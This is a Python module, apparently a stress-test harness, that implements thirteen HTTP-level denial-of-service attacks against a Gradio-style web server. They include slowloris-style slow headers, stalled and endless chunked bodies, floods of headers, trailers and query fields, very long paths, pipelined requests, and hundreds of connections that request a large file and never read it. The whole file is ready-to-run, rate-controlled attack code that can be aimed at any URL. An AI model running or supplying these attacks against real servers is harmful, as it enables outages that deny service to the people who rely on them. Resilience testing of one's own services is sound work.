"""Attacks below HTTP: requests that cost a parser much and their sender little.

Each attack writes the same bytes again and again over a few connections, at a bounded total rate, and reads
the answers without waiting for them.
"""

from __future__ import annotations

import asyncio
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from contextlib import suppress
from urllib.parse import urlsplit

MEGABYTE = 1_000_000
Attack = Callable[[str, float], Awaitable[dict[str, int]]]


class Connection:
    """A connection to the attacked server, which counts the answers on it."""

    def __init__(self, url: str, got: Counter[str]):
        parts = urlsplit(url)
        self._host, self._port, self._got = parts.hostname, parts.port, got

    async def __aenter__(self) -> asyncio.StreamWriter:
        reader, writer = await asyncio.open_connection(self._host, self._port)
        self._reading = asyncio.create_task(self._count(reader, writer))
        self._writer = writer
        return writer

    async def __aexit__(self, *_: object) -> None:
        self._reading.cancel()
        self._writer.close()

    async def _count(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with suppress(OSError):
            while line := await reader.read(65_536):
                for answer in line.split(b"HTTP/1.1 ")[1:]:
                    self._got[answer[:3].decode("latin-1")] += 1
        self._got["closed"] += 1
        writer.transport.abort()


def writing(begin: bytes, again: bytes, rate: float, connections: int = 4) -> Attack:
    """Make an attack that writes `begin` once and then `again` for ever. rate: bytes a second over all
    connections."""

    async def attack(url: str, seconds: float) -> dict[str, int]:
        end, got = time.monotonic() + seconds, Counter[str]()

        async def one() -> None:
            async with Connection(url, got) as writer:
                writer.write(begin)
                start, sent = time.monotonic(), 0
                while time.monotonic() < end and not writer.is_closing():
                    writer.write(again)
                    sent += len(again)
                    async with asyncio.timeout(max(0.01, end - time.monotonic())):
                        await writer.drain()
                    ahead = sent * connections / rate - (time.monotonic() - start)
                    await asyncio.sleep(max(0.0, ahead))

        async def connection() -> None:
            while time.monotonic() < end:
                with suppress(OSError, TimeoutError):
                    await one()
                await asyncio.sleep(0.05)

        await asyncio.gather(*(connection() for _ in range(connections)))
        return dict(got)

    return attack


async def unread_files(url: str, seconds: float) -> dict[str, int]:
    """Eight hundred connections that ask for the largest script and read nothing of it."""
    parts, end, got = urlsplit(url), time.monotonic() + seconds, Counter[str]()
    request = _get("/files/plotly.min.js")

    async def connection() -> None:
        while time.monotonic() < end:
            try:
                # this side's buffers add nothing to the kernel's
                _, writer = await asyncio.open_connection(parts.hostname, parts.port, limit=1)
            except OSError:
                got["refused"] += 1
                await asyncio.sleep(0.5)
                continue
            got["connected"] += 1
            writer.write(request)
            while time.monotonic() < end and not writer.is_closing():
                await asyncio.sleep(0.5)
            got["ended"] += writer.is_closing()
            writer.transport.abort()

    await asyncio.gather(*(connection() for _ in range(800)))
    return dict(got)


def _get(target: str, *headers: str) -> bytes:
    return "\r\n".join([f"GET {target} HTTP/1.1", "Host: localhost", *headers, "", ""]).encode()


_CHUNKED = (
    b"POST /gradio_api/queue/join HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
    b"Transfer-Encoding: chunked\r\n\r\n"
)
_STATED = _CHUNKED.replace(b"Transfer-Encoding: chunked", b"Content-Length: 200000")
ATTACKS = {
    "stalled-bodies": writing(_STATED + b"{", b" ", 200, 200),
    "endless-bodies": writing(_CHUNKED, b"8000\r\n" + b" " * 32768 + b"\r\n", 1.6 * MEGABYTE, 50),
    "slow-heads": writing(b"GET / HTTP/1.1\r\nHost: localhost\r\n", b"X-A: b\r\n", 3200, 400),
    "tiny-chunks": writing(_CHUNKED, b"1\r\n \r\n" * 5_000, 1.0 * MEGABYTE),
    "many-headers": writing(b"", _get("/", *["a:"] * 15_000), 1.6 * MEGABYTE),
    "endless-head": writing(b"GET / HTTP/1.1\r\nHost: localhost\r\n", b"a:\r\n" * 5_000, 1.6 * MEGABYTE),
    "one-long-header": writing(b"GET / HTTP/1.1\r\nHost: localhost\r\nA: ", b"a" * 60_000, 20 * MEGABYTE),
    "many-trailers": writing(b"", _CHUNKED + b"0\r\n" + b"a:\r\n" * 15_000 + b"\r\n", 1.6 * MEGABYTE),
    "many-fields": writing(b"", _get("/?" + "a&" * 16_000), 1.6 * MEGABYTE),
    "long-paths": writing(b"", _get("/static" + "/a" * 4_000), 4 * MEGABYTE),
    "missing-files": writing(b"", _get("/static/nothing-here.js") * 10, 0.2 * MEGABYTE, 30),
    "pipelined": writing(b"", _get("/robots.txt") * 500, 1.6 * MEGABYTE),
    "unread-files": unread_files,
}
